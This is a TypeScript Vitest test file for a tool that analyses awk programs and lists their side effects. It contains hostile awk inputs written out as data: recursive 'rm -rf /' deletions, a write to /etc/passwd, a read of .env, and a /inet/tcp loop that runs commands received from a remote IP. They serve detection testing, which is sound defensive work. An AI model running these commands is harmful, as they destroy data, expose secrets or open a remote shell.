import { describe, expect, it } from "vitest";
import { callsOf, read } from "./reading.ts";

type Case = readonly [code: string, calls: readonly string[]];

const STARTS_PROGRAMS_AND_WRITES_FILES: readonly Case[] = [
  ['BEGIN{system("rm -rf /")}', ["shell rm -rf /"]],
  ['{system("rm " $1)}', ["shell rm ?[input]"]],
  ['BEGIN{cmd="rm -rf /"; cmd | getline x}', ["shell rm -rf /"]],
  ['{print "rm -rf /" | "sh"}', ["spawn sh -c sh < rm -rf /\n"]],
  ['BEGIN{printf "rm -rf %s", "/" | "sh"}', ["spawn sh -c sh < rm -rf /"]],
  ['{print $1 > "/etc/passwd"}', ["write /etc/passwd = ?\n[input]"]],
  ['{print $1, $2 >> "out.txt"}', ["append out.txt = ? ?\n[input]"]],
  ['BEGIN { while (("ls" | getline f) > 0) print f }', ["shell ls"]],
  ['function f(x) { system("rm -rf " x) } BEGIN { f("/") }', ["shell rm -rf /"]],
  ['BEGIN { getline x < ".env"; print x }', ["read .env"]],
  ['BEGIN{system("rm -rf " ENVIRON["HOME"])}', ["shell rm -rf /home/me"]],
  ['BEGIN{a="rm"; b="-rf /"; system(a " " b)}', ["shell rm -rf /"]],
  ['/x/ { if ($1 > 3) system("id"); else system("ls") }', ["shell id", "shell ls"]],
  ['END{print > "a"; close("a"); system("sh a")}', ["write a = \n", "shell sh a"]],
  [
    'BEGIN{s="/inet/tcp/0/1.2.3.4/80"; while(1){ s |& getline c; system(c)}}',
    ["network /inet/tcp/0/1.2.3.4/80", "shell ?[network]"],
  ],
];

const HARMLESS: readonly string[] = [
  '{print "system(\\"rm -rf /\\")"}',
  "/rm -rf/ {print $0}",
  '# system("rm")\n{print}',
  "$3 > 5 {print $1}",
  "{ if ($1 > 3) print $2; else print $3 }",
  "{a[$1]++} END{for(k in a) print k, a[k]}",
  'BEGIN{FS=":"} {print $1}',
  "NR==1, NR==3",
  '{gsub(/rm -rf/, ""); print}',
  '{printf "%s rm -rf\\n", $1}',
  "$0 ~ /system\\(/ {n++} END{print n}",
  '{print ($1 > $2) ? "a" : "b"}',
  "length($0) > 80",
  'BEGIN{x = "rm -rf /"; print x}',
  "{sum += $1 / 2} END {print sum}",
];

describe("awk programs", () => {
  describe("starts programs and writes files", () => {
    it.each(STARTS_PROGRAMS_AND_WRITES_FILES)("%j", (code, calls) => {
      expect(callsOf("awk", code)).toEqual(calls);
    });
  });

  describe("prints and matches dangerous words, which is nothing", () => {
    it.each(HARMLESS)("%j", code => {
      expect(callsOf("awk", code)).toEqual([]);
      expect(read("awk", code).isComplete).toBe(true);
    });
  });
});
